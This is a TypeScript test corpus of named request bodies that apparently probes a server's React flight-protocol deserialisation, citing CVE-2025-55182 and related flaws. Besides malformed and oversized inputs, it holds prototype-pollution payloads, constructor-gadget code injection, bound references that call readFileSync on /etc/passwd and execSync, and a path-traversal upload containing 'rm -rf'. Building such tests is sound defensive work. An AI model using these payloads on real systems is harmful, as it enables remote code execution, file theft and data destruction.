export type Payload = { name: string; contentType: string; body: string | Buffer };

const boundary = "x-boundary";
const multipart = `multipart/form-data; boundary=${boundary}`;

/** Parts of a multipart body, as they are: a list, since names may repeat. */
function parts(fields: [name: string, value: string][]): string {
  const written = fields.map(
    ([name, value]) => `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
  );
  return `${written.join("")}--${boundary}--\r\n`;
}

const form = (name: string, ...fields: [string, string][]): Payload => ({
  name,
  contentType: multipart,
  body: parts(fields),
});
const text = (name: string, body: string | Buffer): Payload => ({
  name,
  contentType: "text/plain;charset=UTF-8",
  body,
});
const nested = (depth: number) => `${"[".repeat(depth)}${"]".repeat(depth)}`;
const objects = (depth: number) => `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`;

/**
 * Calls of server functions in forms that broke the deserialisation of React's flight protocol (CVE-2025-55182, -55184,
 * -67779, CVE-2026-23864 and their like), or might: references to prototypes, to themselves, to nothing; depth, width, lies.
 */
export const payloads: Payload[] = [
  text("empty", ""),
  text("harmless: no arguments", "[]"),
  text("no JSON", "{"),
  text("no list", "1"),
  text("an object", "{}"),
  text("null", "null"),
  text("a string", '"$1"'),
  text("not UTF-8", Buffer.from([0x5b, 0xff, 0xfe, 0x22, 0x80, 0x5d])),
  text("zero bytes", Buffer.alloc(1_000)),
  text("20,000 lists deep", nested(20_000)),
  text("20,000 objects deep", `[${objects(20_000)}]`),
  text("100,000 elements", `[${"0,".repeat(99_999)}0]`),
  text("prototype key", '[{"__proto__":{"isAdmin":true}}]'),
  text("constructor key", '[{"constructor":{"prototype":{"isAdmin":true}}}]'),
  text("then", '[{"then":"$1:then"}]'),
  text("number too large", "[1e400]"),
  text("long number", `[${"9".repeat(100_000)}]`),
  text("bigint of 300,000 digits", `["$n${"9".repeat(300_000)}"]`),
  text("date that is none", '["$Dnever"]'),
  text("symbol", '["$SSymbol.iterator"]'),
  text("server reference", '["$F1"]'),
  text("server reference to a module", '["$h1"]'),
  text("temporary reference", '["$T"]'),
  text("infinity, -0, NaN, undefined", '["$Infinity","$-0","$NaN","$undefined"]'),

  form("no root", ["1", "[]"]),
  form("root twice", ["0", "[]"], ["0", "[1]"]),
  form("root that is no JSON", ["0", "{"]),
  form("unknown reference", ["0", '["$1"]']),
  form("reference far away", ["0", '["$ffffffff"]']),
  form("reference to itself", ["0", '["$0"]']),
  form("references in a circle", ["0", '["$1"]'], ["1", '"$2"'], ["2", '"$1"']),
  form("reference through a prototype", ["0", '["$1:__proto__:then"]'], ["1", "{}"]),
  form("reference through a constructor", ["0", '["$1:constructor:constructor"]'], ["1", "{}"]),
  form("constructor of a string", ["0", '["$1:constructor"]'], ["1", '"text"']),
  form("properties that are not there", ["0", '["$1:a:b:c"]'], ["1", "{}"]),
  form("properties of a list", ["0", '["$1:length:toString"]'], ["1", "[1]"]),
  form(
    "a promise that is none",
    ["0", '["$@1"]'],
    [
      "1",
      '{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"value":"{\\"then\\":\\"$B1337\\"}","_response":{"_prefix":"process.exit(1);","_formData":{"get":"$1:constructor:constructor"}}}',
    ],
  ),
  form(
    "a response that is forged",
    ["0", '["$1"]'],
    [
      "1",
      '{"_response":{"_prefix":"globalThis.__pwned=1;//","_chunks":"$Q2","_formData":{"get":"$3:constructor:constructor"}},"status":"resolved_model","value":"{}","then":"$2:then"}',
    ],
    ["2", '"$@3"'],
    ["3", "[]"],
  ),
  form("a promise of itself", ["0", '["$@0"]']),
  form("promises in a circle", ["0", '["$@1"]'], ["1", '"$@2"'], ["2", '"$@1"']),
  form("an awaited circle", ["0", '["$1"]'], ["1", '{"then":"$1:then"}']),
  form("a map of itself", ["0", '["$Q1"]'], ["1", '[["$Q1","$Q1"]]']),
  form("a map that is none", ["0", '["$Q1"]'], ["1", '{"size":1}']),
  form("a set of itself", ["0", '["$W1"]'], ["1", '["$W1"]']),
  form("a set of 100,000", ["0", '["$W1"]'], ["1", `[${"1,".repeat(99_999)}1]`]),
  form("an iterator of itself", ["0", '["$i1"]'], ["1", '["$i1"]']),
  form("a form of nothing", ["0", '[{},"$K1"]']),
  form("a form named like a prototype", ["0", '[{},"$K__proto__"]'], ["__proto___a", "1"]),
  form("a blob that is text", ["0", '["$B1"]'], ["1", "text"]),
  form("a blob of nothing", ["0", '["$B2"]']),
  form("bytes that are none", ["0", '["$o1"]'], ["1", "x"]),
  form("a stream that never ends", ["0", '["$R1"]']),
  form("a stream of bytes that never ends", ["0", '["$r1"]']),
  form("an async iterable that never ends", ["0", '["$X1"]']),
  form("an async iterator that never ends", ["0", '["$x1"]']),
  form("a stream of lies", ["0", '["$R1"]'], ["1", '"a"'], ["1", '"b"'], ["1", "C{"]),
  form("a bound reference", ["0", '["$h1"]'], ["1", '{"id":"fs#readFileSync","bound":["/etc/passwd"]}']),
  form(
    "a bound reference of modules",
    ["0", '["$F1"]'],
    ["1", '{"id":"child_process#execSync","bound":"$@2"}'],
    ["2", '["id"]'],
  ),
  form("a bound reference to a prototype", ["0", '["$h1"]'], ["1", '{"id":"__proto__","bound":null}']),
  form("a bound reference to itself", ["0", '["$h1"]'], ["1", '{"id":"x","bound":"$@1"}']),
  form("20,000 deep in a part", ["0", '["$1"]'], ["1", nested(20_000)]),
  form("a chain of 2,000 references", ["0", '["$1"]'], ...chain(2_000)),
  form(
    "many references to one large part",
    ["0", `[${'"$1",'.repeat(5_000)}"$1"]`],
    ["1", `"${"x".repeat(100_000)}"`],
  ),
  form("doubled 40 times", ["0", '["$1"]'], ...doubled(40)),
  form("10,000 fields", ["0", '[{},"$K1"]'], ...many(10_000, (index) => [`_1_f${index}`, "x"])),
  form("10,000 fields of one name", ["0", '[{},"$K1"]'], ...many(10_000, () => ["_1_email", "x"])),
  form("fields nested 500 deep", ["0", '[{},"$K1"]'], [`_1_a${"[0]".repeat(500)}`, "x"]),
  form(
    "a field that is a prototype",
    ["0", '[{},"$K1"]'],
    ["_1___proto__.isAdmin", "true"],
    ["_1_constructor[prototype][x]", "1"],
  ),
  form("a list with a hole of a billion", ["0", '[{},"$K1"]'], ["_1_lines[999999999].amount", "1"]),
  form("a field name of 100,000 characters", ["0", '[{},"$K1"]'], [`_1_${"n".repeat(100_000)}`, "x"]),
  form(
    "action fields of forms without scripts",
    ["$ACTION_REF_1", ""],
    ["$ACTION_1:0", '{"id":"x","bound":"$@1"}'],
    ["$ACTION_1:1", "[]"],
  ),
  form("an action field that is a prototype", ["$ACTION_ID___proto__", ""], ["$ACTION_KEY", "k"]),
  form("a bound action of itself", ["$ACTION_REF_1", ""], ["$ACTION_1:0", '{"id":"x","bound":"$@0"}']),

  { name: "multipart without a boundary", contentType: "multipart/form-data", body: "x" },
  { name: "multipart that never ends", contentType: multipart, body: parts([["0", "[]"]]).slice(0, -8) },
  {
    name: "multipart headers without end",
    contentType: multipart,
    body: `--${boundary}\r\n${"X-A: b\r\n".repeat(5_000)}`,
  },
  { name: "multipart with a file", contentType: multipart, body: fileBody() },
  {
    name: "a boundary of 5,000 characters",
    contentType: `multipart/form-data; boundary=${"b".repeat(5_000)}`,
    body: "x",
  },
  { name: "another content type", contentType: "application/json", body: "[{}]" },
  { name: "a content type that is none", contentType: ";;;", body: "[]" },
  { name: "url encoded", contentType: "application/x-www-form-urlencoded", body: "0=%5B%5D&$ACTION_ID_x=" },
];

function chain(length: number): [string, string][] {
  return many(length, (index) => [
    (index + 1).toString(16),
    index + 1 === length ? "1" : `"$${(index + 2).toString(16)}"`,
  ]);
}

function doubled(times: number): [string, string][] {
  return many(times, (index) => {
    const next = (index + 2).toString(16);
    return [(index + 1).toString(16), index + 1 === times ? '"x"' : `["$${next}","$${next}"]`];
  });
}

function many(count: number, make: (index: number) => [string, string]): [string, string][] {
  return Array.from({ length: count }, (_, index) => make(index));
}

function fileBody(): string {
  return (
    `--${boundary}\r\nContent-Disposition: form-data; name="_1_email"; filename="../../x.sh"\r\n` +
    `Content-Type: text/x-sh\r\n\r\nrm -rf\r\n--${boundary}\r\nContent-Disposition: form-data; name="0"\r\n\r\n[{},"$K1"]\r\n--${boundary}--\r\n`
  );
}
